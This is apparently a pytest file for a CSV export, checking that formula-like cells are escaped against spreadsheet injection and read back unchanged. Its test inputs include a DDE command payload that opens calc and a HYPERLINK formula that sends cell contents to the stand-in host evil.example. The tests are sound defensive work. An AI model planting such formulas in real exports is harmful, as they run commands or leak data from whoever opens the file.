"""An exported cell runs nothing in a spreadsheet, and reads back as what it was."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from common.csv_cells import from_cell, to_cell
from retrieval.evaluation.golden import read_golden, to_csv
from retrieval.models import GoldenQuestion


@pytest.mark.parametrize("text", ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1", "'=1"])
def test_a_formula_becomes_text(text: str) -> None:
    assert to_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-5", "+3.2", "1e9", "-1,5", "a=1", "'quoted'", "", "Is 1+1 = 2?"])
def test_numbers_and_texts_stay(text: str) -> None:
    assert to_cell(text) == text


@given(st.text(alphabet="=+-@'\t\r\n\uff1d12a.", max_size=6))
def test_every_cell_reads_back(text: str) -> None:
    assert from_cell(to_cell(text)) == text


def test_the_export_of_golden_questions_has_no_formula_and_reads_back() -> None:
    formula = '=HYPERLINK("https://evil.example/?q="&A1,"x")'
    question = GoldenQuestion(
        question=formula, expected_documents=["=1+1", "b"], expected_text="@x", audience=["+a"], tags=["-b"]
    )
    text = to_csv([question])
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    [read] = read_golden(text.encode(), "a.csv")
    assert (read.question, read.expected_documents, read.expected_text) == (formula, ["=1+1", "b"], "@x")
    assert (read.audience, read.tags) == (["+a"], ["-b"])
